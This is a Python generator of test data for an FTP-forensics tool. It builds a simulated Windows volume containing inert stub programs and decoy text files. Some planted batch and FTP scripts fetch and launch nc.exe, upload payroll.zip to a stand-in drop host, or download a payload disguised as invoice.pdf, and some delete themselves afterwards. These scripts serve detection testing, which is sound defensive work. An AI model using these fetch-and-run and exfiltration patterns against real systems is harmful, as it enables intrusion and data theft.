#!/usr/bin/env python3
"""Makes testdata/host: a small Windows volume on which FTP was abused in several ways, and on which it is only talked about.

usage: make_host.py [DIRECTORY]      (default: testdata/host beside this script)

Standard library only, no clock, no chance: the same bytes every time. All addresses are documentation addresses
(RFC 5737), all names end in .example (RFC 2606); the programs are empty shells that do nothing.
"""
import io
import pathlib
import shutil
import struct
import sys
import zipfile


def align(n, a):
    return (n + a - 1) // a * a


def make_pe(text, dll=b"KERNEL32.dll", function=b"ExitProcess", checksum=0):
    """A PE32+ console program of two sections: one `ret`, one import. `text` is a remark in its data."""
    rva_text, rva_data = 0x1000, 0x2000
    names = b"\0\0" + function + b"\0" + b"\0" * (len(function) % 2 == 0)
    descriptors = 40
    thunks = rva_data + descriptors
    name_at = thunks + 32
    dll_at = name_at + len(names)
    table = struct.pack("<IIIII", thunks, 0, 0, dll_at, thunks + 16) + bytes(20)
    table += struct.pack("<QQQQ", name_at, 0, name_at, 0) + names + dll + b"\0"
    data = table + bytes(-len(table) % 16) + text
    code = b"\x33\xc0\xc3" + b"\xcc" * 13
    sections = b""
    blobs, raw = [], 0x400
    for name, rva, blob, flags in ((b".text", rva_text, code, 0x60000020), (b".rdata", rva_data, data, 0x40000040)):
        size = align(len(blob), 0x200)
        sections += struct.pack("<8sIIIIIIHHI", name, len(blob), rva, size, raw, 0, 0, 0, 0, flags)
        blobs.append(blob + bytes(size - len(blob)))
        raw += size
    optional = struct.pack("<HBBIIIII", 0x20B, 14, 0, 0x200, 0x200, 0, rva_text, rva_text)
    optional += struct.pack("<QIIHHHHHHIIIIHH", 0x140000000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x3000 + align(len(data), 0x1000),
                            0x400, checksum, 3, 0x8160)
    optional += struct.pack("<QQQQII", 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    directories = [(0, 0)] * 16
    directories[1] = (rva_data, descriptors)
    optional += b"".join(struct.pack("<II", *d) for d in directories)
    coff = struct.pack("<HHIIIHH", 0x8664, 2, 1577836800, 0, 0, len(optional), 0x22)
    dos = b"MZ" + bytes(58) + struct.pack("<I", 0x80)
    head = dos + bytes(0x80 - len(dos)) + b"PE\0\0" + coff + optional + sections
    return head + bytes(0x400 - len(head)) + b"".join(blobs)


def make_zip(name, content):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
        archive.writestr(info, content)
    return out.getvalue()


def crlf(*lines):
    return "".join(line + "\r\n" for line in lines).encode()


TOOL = make_pe(b"ftpsift test program: a tool that was fetched. " * 20)
INVOICE = make_pe(b"ftpsift test program under a false name.\r\n" * 30, b"WS2_32.dll", b"WSAStartup")

FILES = {
    "Windows/System32/drivers/etc/hosts": crlf("# the host's own names", "127.0.0.1 localhost"),
    "Windows/Temp/nc.exe": TOOL,
    # A finished script, started with -n by a batch file that then starts what was fetched.
    "Users/Public/a.txt": crlf("open 203.0.113.10", "user bob s3cret!", "binary", "lcd C:\\Windows\\Temp", "get nc.exe", "bye"),
    "Users/Public/run.bat": crlf("@echo off", "ftp -n -s:C:\\Users\\Public\\a.txt", "start C:\\Windows\\Temp\\nc.exe", "del %0"),
    # A dropper: the script exists only while it runs. `user` lacks its password, so that `binary` is taken for it.
    "Users/jsmith/AppData/Local/Temp/up.cmd": crlf(
        "@echo off", "cd /d C:\\Users\\jsmith\\Documents", "echo open ftp.drop-zone.example 2121>%TEMP%\\~u.tmp",
        "echo user upload>>%TEMP%\\~u.tmp", "echo binary>>%TEMP%\\~u.tmp", "echo put payroll.zip>>%TEMP%\\~u.tmp",
        "echo bye>>%TEMP%\\~u.tmp", "ftp -n -i -s:%TEMP%\\~u.tmp", "del %TEMP%\\~u.tmp"),
    "Users/jsmith/Documents/payroll.zip": make_zip("payroll.csv", b"name,amount\r\nJ. Smith,1\r\n" * 40),
    # No launch is left: the lines after `open` answer the prompts, with the words USER and PASS typed into them.
    "ProgramData/update/cfg.dat": crlf("open 198.51.100.7", "USER upd", "PASS P@ss99", "get stage.bin invoice.pdf", "quit"),
    "ProgramData/update/invoice.pdf": INVOICE,
    # PowerShell's redirection leaves UTF-16, which ftp.exe would not understand.
    "Users/jsmith/Desktop/ps.log": b"\xff\xfe" + "open 192.0.2.44\r\nanonymous\r\nguest@\r\nbinary\r\nget gone.exe\r\nbye\r\n".encode("utf-16-le"),
    # Talk about FTP that is none.
    "Users/jsmith/Documents/howto.txt": crlf(
        "How to publish", "Open an FTP connection to the server, log in with your user name and password,",
        "get the update in binary mode, put it in place and say bye to manual copying."),
    "Users/jsmith/Documents/todo.txt": crlf("open data portal", "get started guide", "user manual", "quit smoking"),
    "Windows/System32/notes.ini": crlf("[ftp]", "host=ftp.vendor.example", "user=anonymous", "mode=binary"),
}


def main():
    here = pathlib.Path(__file__).resolve().parents[1]
    root = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else here / "host"
    shutil.rmtree(root, ignore_errors=True)
    for name, content in FILES.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    print(f"{len(FILES)} files, {sum(map(len, FILES.values()))} bytes in {root}")


if __name__ == "__main__":
    main()
